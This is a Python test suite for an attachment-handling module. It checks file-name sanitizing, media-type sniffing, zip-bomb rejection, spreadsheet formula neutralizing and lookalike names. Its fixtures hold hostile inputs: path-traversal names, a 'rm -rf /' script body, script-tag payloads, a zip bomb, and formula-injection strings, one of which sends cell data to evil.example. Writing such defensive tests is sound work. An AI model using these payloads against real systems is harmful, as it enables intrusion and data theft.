"""Attachment names, media types, zip bombs and spreadsheet formulas: the helpers under attack."""

from __future__ import annotations

import io
import unicodedata
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.errors import InvalidInput, PayloadTooLarge, UnsupportedMediaType
from hub.security.filenames import MAX_BYTES, safe_filename
from hub.security.media import ALLOWED, Limits, check_attachment, sniff
from hub.security.names import same_name, skeleton
from hub.security.spreadsheet import inert, restored
from tests.security.counts import tried

TRAVERSALS = [
    ("../../etc/passwd", "passwd"), ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe"),
    ("/etc/shadow", "shadow"), ("C:\\boot.ini", "boot.ini"), ("....//....//x.pdf", "x.pdf"),
    ("..", "附件"), (".", "附件"), ("", "附件"), (".bashrc", "bashrc"),
    ("判决书\x00.pdf.exe", "判决书.pdf.exe"), ("con", "附件_con"), ("LPT1.txt", "附件_LPT1.txt"),
    ("a\u202egnp.exe", "agnp.exe"), ("报告\u200b.docx", "报告.docx"), ("a<b>:c|d?.pdf", "abcd.pdf"),
    ("%2e%2e%2fpasswd", "%2e%2e%2fpasswd"), ("起诉状 .pdf. ", "起诉状 .pdf"),
    ("..%c0%af..%c0%afetc", "..%c0%af..%c0%afetc".lstrip(".")),
]


@pytest.mark.parametrize(("name", "safe"), TRAVERSALS)
def test_attachment_names_lose_every_path_and_invisible_part(name, safe):
    tried("filename")
    assert safe_filename(name) == safe


def test_a_long_name_keeps_its_extension_within_the_byte_limit():
    name = "关于郧西县自然资源和规划局行政处罚" * 20 + ".pdf"
    safe = safe_filename(name)
    assert safe.endswith(".pdf") and len(safe.encode()) <= MAX_BYTES


@given(st.text(max_size=400), st.sampled_from([None, *sorted(ALLOWED)]))
def test_any_name_becomes_one_plain_file_name(name, media_type):
    tried("filename")
    safe = safe_filename(name, media_type)
    assert safe and "/" not in safe and "\\" not in safe and "\x00" not in safe
    assert not any(c in safe for c in '<>:"|?*') and safe.isprintable()
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in safe)
    assert not safe.startswith(".") and len(safe.encode("utf-8")) <= MAX_BYTES
    assert safe.encode("utf-8").decode("utf-8") == safe  # valid UTF-8, no lone surrogates
    assert safe_filename(safe) == safe  # stable: sanitizing twice changes nothing


# Stems without dots or path separators, so the only extension is the one added.
_STEM_CHARS = st.characters(blacklist_characters="./\\", blacklist_categories=("Cs",))


@given(st.text(_STEM_CHARS, max_size=300), st.sampled_from(sorted(set(ALLOWED.values()))))
def test_a_name_keeps_its_extension_and_is_cut_only_between_characters(stem, extension):
    tried("filename")
    safe = safe_filename("报告" + stem + extension)
    assert safe.endswith(extension) and len(safe.encode()) <= MAX_BYTES
    kept = safe.removesuffix(extension)
    assert safe_filename("报告" + stem).startswith(kept.rstrip(" ."))  # a prefix: no half char


def test_an_empty_name_is_called_attachment_with_its_types_extension():
    assert safe_filename("", "application/pdf") == "附件.pdf"
    assert safe_filename("../", DOCX) == "附件.docx"
    assert safe_filename(None) == "附件"


PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_matching_types_are_accepted():
    assert check_attachment(PDF, "application/pdf") == "application/pdf"
    assert check_attachment(PNG, "image/png; charset=binary") == "image/png"
    assert check_attachment("情况说明".encode(), "text/plain") == "text/plain"
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    assert check_attachment(docx, DOCX) == DOCX


@pytest.mark.parametrize(("data", "declared", "says"), [
    (b"MZ\x90\x00" + b"\x00" * 60, "application/pdf", "可执行程序"),
    (b"\x7fELF\x02\x01", "image/png", "可执行程序"),
    (b"#!/bin/sh\nrm -rf /", "text/plain", "脚本"),
    (PNG, "application/pdf", "不符"),
    (PDF, "image/jpeg", "不符"),
    (b"<html><script>alert(1)</script>", "application/pdf", "不符"),
    (b"<svg onload=alert(1)>", "image/svg+xml", "不接受"),
    (PDF, "text/html", "不接受"),
    (b"\xff\xfe\x00\x00binary", "text/plain", "纯文本"),
    (b"PK\x03\x04garbage", XLSX, "损坏"),
])
def test_wrong_or_dangerous_media_types_are_refused(data, declared, says):
    tried("media")
    with pytest.raises(InvalidInput) as refused:
        check_attachment(data, declared)
    assert says in refused.value.errors[0].msg
    assert refused.value.errors[0].loc[0] == "attachment"


def test_a_zip_bomb_is_refused_before_anything_unpacks_it():
    tried("media")
    bomb = _zip({"word/document.xml": b"\x00" * (30 * 1024 * 1024)})  # 30 MiB of zeros
    assert len(bomb) < 100 * 1024
    with pytest.raises(InvalidInput) as refused:
        check_attachment(bomb, DOCX)
    assert "压缩炸弹" in refused.value.errors[0].msg


@pytest.mark.parametrize(("entries", "says"), [
    ({f"f{i}.xml": b"x" for i in range(30)}, "个文件"),
    ({"inner.zip": b"PK"}, "嵌套"),
    ({"../../evil.sh": b"x"}, "越出目录"),
])
def test_zip_contents_are_checked(entries, says):
    tried("media")
    with pytest.raises(InvalidInput) as refused:
        check_attachment(_zip(entries), "application/zip", limits=Limits(max_entries=20))
    assert says in refused.value.errors[0].msg


def test_an_oversized_attachment_is_refused_naming_the_limit():
    with pytest.raises(PayloadTooLarge) as refused:
        check_attachment(PDF + b"0" * 2048, "application/pdf", limits=Limits(max_bytes=1024))
    assert "超过上限（1024 字节）" in refused.value.message


def test_a_missing_or_generic_type_is_taken_from_the_name_then_the_bytes():
    assert check_attachment(PNG, None, "a.png") == "image/png"
    assert check_attachment(_zip({"word/document.xml": b"<w/>"}), "application/octet-stream",
                            "报告.docx") == DOCX
    assert check_attachment(_zip({"a.txt": b"x"}), None, "材料") == "application/zip"
    assert check_attachment(PDF, "", "扫描件") == "application/pdf"
    assert check_attachment("整改说明".encode("gb18030"), None, "说明") == "text/plain"
    with pytest.raises(UnsupportedMediaType):
        check_attachment(PDF, None, "a.png")  # the name says PNG, the bytes say PDF


@given(st.binary(max_size=64), st.sampled_from([None, "", "application/octet-stream",
                                                *sorted(ALLOWED), "text/html",
                                                "application/x-msdownload"]),
       st.sampled_from(["a.pdf", "a.exe", "报告.docx", "", "x.txt"]))
def test_the_stored_type_is_always_an_allowed_one_agreeing_with_the_bytes(data, declared, name):
    tried("media")
    try:
        found = check_attachment(data, declared, name)
    except InvalidInput:
        found = None
    assert found is None or found in ALLOWED
    if found == "application/pdf":
        assert data.startswith(b"%PDF-")
    if declared in ("text/html", "application/x-msdownload"):
        assert found is None


def test_sniffing_reads_only_the_signature():
    assert sniff(PDF) == {"application/pdf"} and sniff(b"hello") is None


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1+1", "-1+1",
            "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "＝1+1", "\n=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_come_out_inert_and_read_back_unchanged(value):
    tried("formula")
    cell = inert(value)
    assert cell == "'" + value
    assert restored(cell) == value


@pytest.mark.parametrize("value", ["郧西县交通运输局", "(2023)鄂0322行初15号", "", "a=b", 42, None, -5])
def test_ordinary_cells_are_left_alone(value):
    assert inert(value) == value


def test_a_body_named_like_a_formula_stays_text_in_the_exported_directory(tmp_path):
    from hub.directory.sheet import NAME, read_sheet, write_csv

    path = tmp_path / "名录.csv"
    write_csv(path, [['=HYPERLINK("http://evil.example","点我")', "", "", "420300", "", "", ""]])
    raw = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw
    assert read_sheet(path)[0][1][NAME] == '=HYPERLINK("http://evil.example","点我")'


@pytest.mark.parametrize("lookalike", [
    "十堰市中级人民法院\u200b", "十堰市中级\u2060人民法院", "十堰市 中级人民法院", "十堰市中级人民法院\u202e",
    "十堰市中级人民法院　",  # ideographic space
])
def test_names_that_look_the_same_have_one_skeleton(lookalike):
    tried("confusable")
    assert same_name(lookalike, "十堰市中级人民法院")


def test_latin_and_cyrillic_lookalikes_fold_and_different_names_do_not():
    assert skeleton("Ѕhiyan Соurt") == skeleton("Shiyan Court")
    assert not same_name("十堰市中级人民法院", "十堰市人民检察院")
